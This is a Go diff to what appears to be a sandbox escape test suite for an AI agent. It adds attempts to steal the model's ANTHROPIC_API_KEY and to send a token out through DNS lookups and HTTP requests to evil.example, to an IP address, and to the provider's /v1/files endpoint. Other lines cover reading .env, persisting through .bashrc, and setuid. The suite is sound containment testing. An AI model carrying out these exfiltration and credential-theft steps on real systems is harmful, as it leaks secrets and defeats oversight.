@@ -23,6 +23,8 @@ const (
 	byTmpfs    = "limits: sized private places"
 	byTTY      = "no terminal of the owner's"
 	byLock     = "Landlock"
+	byGateway  = "gateway: nobody granted that"
+	byVault    = "vault: the gateway has it, the agent a text in its place"
 	byEnd      = "process namespace: all of it ends with the run"
 )
 
@@ -41,12 +43,19 @@ type attempt struct {
 }
 
 // attempts is the whole attack on one stage.
-func attempts(s *stage, w *watch) []attempt {
+func attempts(s *stage, w *watch, m *model) []attempt {
 	reads := func(refusal, layer string) map[string]string {
 		return map[string]string{refusal: layer, "EROFS": byRead}
 	}
 	home := func(name string) string { return s.home + "/" + name }
 	net := map[string]string{"ECONNREFUSED": byNet, "ENETUNREACH": byNet, "EADDRNOTAVAIL": byNet, "EACCES": byLock}
+	gateway := map[string]string{"EAI": byGateway, "ECONNRESET": byGateway, "EACCES": byGateway}
+	provider := func(*stage, *watch) string {
+		if m.reached("/v1/files") {
+			return "it arrived"
+		}
+		return ""
+	}
 	filter := map[string]string{"EPERM": byFilter, "ENOSYS": byFilter, "EAFNOSUPPORT": byFilter}
 	planted := func(name string) func(*stage, *watch) string {
 		return func(s *stage, _ *watch) string {
@@ -71,6 +80,7 @@ func attempts(s *stage, w *watch) []attempt {
 		{class: "steal", title: "the project's .env", line: "read .env", layers: reads("EACCES", byMask), free: true, steals: true},
 		{class: "steal", title: "environments, its own and everybody's", line: "environment", layers: reads("", byEnviron), steals: true},
 		{class: "steal", title: "arguments of other processes", line: "processes", layers: reads("", byProc), steals: true},
+		{class: "steal", title: "the key of the model", line: "variable ANTHROPIC_API_KEY", layers: map[string]string{"": byVault}, steals: true},
 		{class: "persist", title: "a line in the owner's .bashrc", line: "append " + home(bashrc) + " " + w.token, layers: reads("ENOENT", byMounts), free: true, through: planted(bashrc)},
 		{class: "persist", title: "a command in /usr/local/bin", line: "append /usr/local/bin/demo-" + w.token + " x", layers: reads("EACCES", byLock)},
 		{class: "persist", title: "a setuid program in the project", line: "setuid sesame", layers: filter},
@@ -80,7 +90,10 @@ func attempts(s *stage, w *watch) []attempt {
 		{class: "send out", title: "TCP to the host, IPv4", line: "tcp 127.0.0.1 " + strconv.Itoa(w.tcp4) + " " + w.token, layers: net, free: true, through: arrived("tcp4")},
 		{class: "send out", title: "TCP to the host, IPv6", line: "tcp ::1 " + strconv.Itoa(w.tcp6) + " " + w.token, layers: net, free: w.tcp6 > 0, through: arrived("tcp6")},
 		{class: "send out", title: "UDP to the host", line: "udp 127.0.0.1 " + strconv.Itoa(w.udp) + " " + w.token, layers: net, free: true, through: arrived("udp")},
-		{class: "send out", title: "UDP to a name server", line: "udp 198.51.100.1 53 " + w.token, layers: net},
+		{class: "send out", title: "a question to a name server", line: "lookup " + w.token + ".evil.example", layers: gateway},
+		{class: "send out", title: "HTTP to a host", line: "web http://evil.example/ " + w.token, layers: gateway},
+		{class: "send out", title: "HTTP to an address", line: "web http://198.51.100.1/ " + w.token, layers: gateway},
+		{class: "send out", title: "the model's provider, with another key", line: "web $ANTHROPIC_BASE_URL/v1/files " + w.token, layers: gateway, through: provider},
 		{class: "send out", title: "a Unix socket in the owner's home", line: "unix " + w.socket + " " + w.token, layers: reads("ENOENT", byMounts), free: true, through: arrived("unix")},
 		{class: "send out", title: "a Unix socket without a path", line: "unix @" + w.abstract + " " + w.token, layers: map[string]string{"ECONNREFUSED": byNet, "EPERM": byLock}, free: true, through: arrived("abstract")},
 		{class: "exhaust", title: "2,000 processes", line: "forks 2000 " + w.token, layers: map[string]string{"EAGAIN": byProcs}, through: func(_ *stage, w *watch) string { return w.crowd() }},
